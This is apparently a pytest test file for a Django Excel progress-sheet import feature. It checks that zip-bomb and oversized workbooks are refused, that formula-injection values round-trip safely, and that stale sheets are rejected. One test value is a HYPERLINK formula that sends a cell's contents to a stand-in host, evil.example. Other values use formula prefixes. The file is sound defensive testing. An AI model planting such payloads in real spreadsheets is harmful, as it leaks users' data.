"""The progress sheet (进展填报表) import: hostile files are refused early in bounded memory, the
unchanged sheet round-trips exactly, and a stale sheet never overwrites newer edits (issue 16 §1-3)."""

import io
import tracemalloc

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from luoshi.core import clock
from luoshi.supervision import imports, services
from luoshi.supervision.models import Report
from supervision.conftest import document, extracted, make_task, people, task, units  # noqa: F401

from . import hostile_xlsx

pytestmark = pytest.mark.django_db
MEMORY_LIMIT = 100 * 1024 * 1024


@pytest.mark.parametrize(
    "build",
    [
        hostile_xlsx.far_column,
        lambda: hostile_xlsx.far_column(declared=False),
        hostile_xlsx.huge_shared_string,
        hostile_xlsx.zip_bomb,
    ],
)
def test_hostile_workbooks_are_refused_in_bounded_memory(people, task, build):  # noqa: F811
    upload = SimpleUploadedFile("表.xlsx", build())
    assert upload.size < imports.MAX_BYTES
    tracemalloc.start()
    try:
        result = imports.import_progress_sheet(people["a"], upload)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.errors and result.saved == 0
    assert any("\u4e00" <= ch <= "\u9fff" for ch in str(result.errors[0]))
    assert peak < MEMORY_LIMIT, f"peak {peak / 2**20:.0f} MB"


def _sheet(user):
    return load_workbook(io.BytesIO(imports.progress_sheet(user, clock.today())))


def _upload(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("表.xlsx", buffer.getvalue())


def _draft(user, period, narrative, targets, version=None):
    return services.save_report(
        user, period, narrative=narrative, percent=30, target_values=targets, version=version
    )


@pytest.mark.parametrize(
    "narrative",
    [
        '=HYPERLINK("http://evil.example/?"&D2,"点击查看")',
        "+1",
        "-2",
        "@SUM(A1)",
        "一季度完成\n二季度推进",
    ],
)
def test_reimporting_the_unchanged_sheet_changes_nothing(people, task, narrative):  # noqa: F811
    targets = [
        {"metric": "增长", "value": 6.4, "unit": "%"},
        {"metric": "存栏", "value": 100.0, "unit": "万头"},
    ]
    report = _draft(people["a"], task.periods.first(), narrative, targets)
    book = _sheet(people["a"])
    row = [c for c in book.active.iter_rows(min_row=3, max_row=3)][0]
    assert all(c.data_type != "f" for c in row)  # no formula in the sheet
    result = imports.import_progress_sheet(people["a"], _upload(book))
    assert not result.errors, [str(e) for e in result.errors]
    report.refresh_from_db()
    assert report.narrative == narrative
    assert report.target_values == targets
    assert report.percent == 30


def test_a_stale_sheet_is_refused_by_name_and_imports_nothing(people, task):  # noqa: F811
    period = task.periods.first()
    report = _draft(people["a"], period, "v1", [])
    old = _sheet(people["a"])
    _draft(people["a2"], period, "v2 by a colleague", [], version=report.version)
    old.active["G3"] = "v1 edited offline"
    result = imports.import_progress_sheet(people["a"], _upload(old))
    assert result.saved == 0
    assert any(task.no in str(e) or task.title[:10] in str(e) for e in result.errors)
    assert any("已被" in str(e) or "修改" in str(e) for e in result.errors)
    assert Report.objects.get(pk=report.pk).narrative == "v2 by a colleague"
